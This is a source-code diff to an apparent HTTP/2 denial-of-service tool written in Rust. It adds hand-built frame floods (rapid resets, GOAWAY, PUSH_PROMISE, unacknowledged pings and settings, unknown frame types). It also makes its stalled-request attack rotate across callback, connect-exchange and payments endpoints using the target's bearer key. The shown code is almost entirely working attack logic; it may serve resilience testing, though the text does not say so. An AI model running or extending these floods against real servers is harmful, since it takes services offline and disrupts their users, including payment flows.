@@ -29,7 +29,8 @@ pub(crate) enum Kind {
     Held,
     /// 200 connections that ask for answers and take none.
     Unread,
-    /// 50 connections with a hundred bodies each that do not end.
+    /// 50 connections with a hundred bodies each that do not end: of callbacks, of shops that connect, and of
+    /// a key's holder.
     Unended,
     /// Forged callbacks, 2,000 a second.
     Forged,
@@ -48,22 +49,43 @@ pub(crate) enum Frame {
     Continuation,
     /// A request that is taken back at once.
     Reset,
+    /// A request whose body never begins.
+    Head,
+    /// The end of a request that never was.
+    BareReset,
+    GoAway,
+    PushPromise,
+    /// Answers to pings and to settings that were never sent.
+    Acknowledged,
+    /// One that HTTP/2 does not know.
+    Unknown,
+}
+
+impl Frame {
+    const ALL: [Self; 13] = [
+        Self::Ping,
+        Self::Settings,
+        Self::WindowUpdate,
+        Self::Priority,
+        Self::EmptyData,
+        Self::Continuation,
+        Self::Reset,
+        Self::Head,
+        Self::BareReset,
+        Self::GoAway,
+        Self::PushPromise,
+        Self::Acknowledged,
+        Self::Unknown,
+    ];
 }
 
 impl Kind {
-    pub(crate) const ALL: [Self; 11] = [
-        Self::Held,
-        Self::Unread,
-        Self::Unended,
-        Self::Forged,
-        Self::Frames(Frame::Ping),
-        Self::Frames(Frame::Settings),
-        Self::Frames(Frame::WindowUpdate),
-        Self::Frames(Frame::Priority),
-        Self::Frames(Frame::EmptyData),
-        Self::Frames(Frame::Continuation),
-        Self::Frames(Frame::Reset),
-    ];
+    /// All of them.
+    pub(crate) fn all() -> Vec<Self> {
+        let frames = Frame::ALL.map(Self::Frames);
+        let others = [Self::Held, Self::Unread, Self::Unended, Self::Forged];
+        others.into_iter().chain(frames).collect()
+    }
 }
 
 /// At whom.
@@ -217,19 +239,27 @@ async fn unread(aim: &Aim, mut stream: TcpStream) -> std::io::Result<()> {
     }
 }
 
-/// A hundred callbacks of which each is sent but for its last byte.
+/// A hundred requests of which each is sent but for its last byte.
 async fn unended(aim: &Aim, stream: TcpStream) -> std::io::Result<()> {
     const BODY: usize = 240 << 10;
     let failed = std::io::Error::other::<h2::Error>;
     let (send, connection) = h2::client::handshake(stream).await.map_err(failed)?;
-    let uri = format!("http://x/callbacks/{}", aim.account);
+    let paths = [
+        &format!("/callbacks/{}", aim.account),
+        "/api/v1/connect/exchange",
+        "/api/v1/payments",
+    ];
     let sends = async {
         let mut bodies = JoinSet::new();
-        for _ in 0..100 {
+        for path in paths.iter().cycle().take(100) {
             let Ok(mut ready) = send.clone().ready().await else {
                 break;
             };
-            let request = Request::post(&uri).body(()).unwrap();
+            let request = Request::post(format!("http://x{path}"))
+                .header("authorization", format!("Bearer {}", aim.key))
+                .header("content-type", "application/json")
+                .body(())
+                .unwrap();
             let Ok((_answer, mut body)) = ready.send_request(request, false) else {
                 break;
             };
@@ -297,6 +327,7 @@ async fn flood(kind: Frame, mut stream: TcpStream) -> std::io::Result<()> {
         let get = [0x82, 0x86, 0x41, 1, b'x', 0x84];
         [frame(1, 0x05, id, &get), frame(3, 0, id, &[0, 0, 0, 8])].concat()
     };
+    let post = [0x83, 0x86, 0x41, 1, b'x', 0x84];
     let mut next = 3_u32;
     let mut batch = || -> Vec<u8> {
         let mut piece = || match kind {
@@ -310,13 +341,21 @@ async fn flood(kind: Frame, mut stream: TcpStream) -> std::io::Result<()> {
                 next += 2;
                 reset(next)
             }
+            Frame::Head => {
+                next += 2;
+                frame(1, 0x04, next, &post)
+            }
+            Frame::BareReset => frame(3, 0, 1, &[0, 0, 0, 8]),
+            Frame::GoAway => frame(7, 0, 0, &[0; 8]),
+            Frame::PushPromise => frame(5, 0x04, 1, &[0, 0, 0, 2, 0x82]),
+            Frame::Acknowledged => [frame(6, 1, 0, &[0; 8]), frame(4, 1, 0, &[])].concat(),
+            Frame::Unknown => frame(0xbe, 0, 0, &[0; 8]),
         };
         (0..256).flat_map(|_| piece()).collect()
     };
     // One request is under way, where the frames need one.
-    let post = [0x83, 0x86, 0x41, 1, b'x', 0x84];
     let begin = match kind {
-        Frame::EmptyData => frame(1, 0x04, 1, &post),
+        Frame::EmptyData | Frame::BareReset | Frame::PushPromise => frame(1, 0x04, 1, &post),
         Frame::Continuation => frame(1, 0, 1, &post),
         _ => vec![],
     };
